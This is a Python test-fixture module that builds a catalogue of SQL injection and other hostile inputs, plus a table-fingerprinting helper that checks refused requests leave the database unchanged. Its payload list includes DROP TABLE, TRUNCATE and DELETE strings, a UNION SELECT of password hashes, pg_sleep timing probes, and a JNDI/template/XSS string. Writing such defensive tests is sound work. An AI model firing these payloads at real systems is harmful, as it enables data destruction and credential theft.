"""The hostile-input catalogue's shared pieces: the payloads, a world to attack, and a fingerprint
of every table to prove that a refused request wrote nothing."""
from __future__ import annotations

import hashlib

import pytest
from sqlalchemy import text

from chalicelib.models import Base
from tests.faults.locks import side_connection
from tests.interactions.helpers import make_world

SQL_INJECTION = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE interactions; --",
    "\"; DROP TABLE users; --",
    "1; SELECT pg_sleep(10) --",
    "' UNION SELECT password_hash, NULL FROM users --",
    "') OR ('a'='a",
    "%' OR title LIKE '%",
    "$$; TRUNCATE site_memberships; $$",
    "\\'; COMMIT; DELETE FROM sites; --",
    "1' AND (SELECT 1 FROM pg_sleep(10)) IS NULL --",
    "x' || (SELECT current_user) || '",
    "%_\\",
    "${jndi:ldap://example.invalid/a} {{7*7}} <script>alert(1)</script>",
]


@pytest.fixture
def world():
    return make_world()


def fingerprint() -> dict[str, str]:
    """A digest of every row of every table (compared before and after a refused request)."""
    digests = {}
    with side_connection() as conn:
        for table in Base.metadata.sorted_tables:
            rows = conn.execute(text(f'SELECT md5(string_agg(t::text, \'|\' ORDER BY t::text)) '
                                     f'FROM "{table.name}" t')).scalar()
            digests[table.name] = rows or ""
    return digests


def digest(value: str) -> str:
    return hashlib.sha256(value.encode("utf-8", "surrogatepass")).hexdigest()[:12]
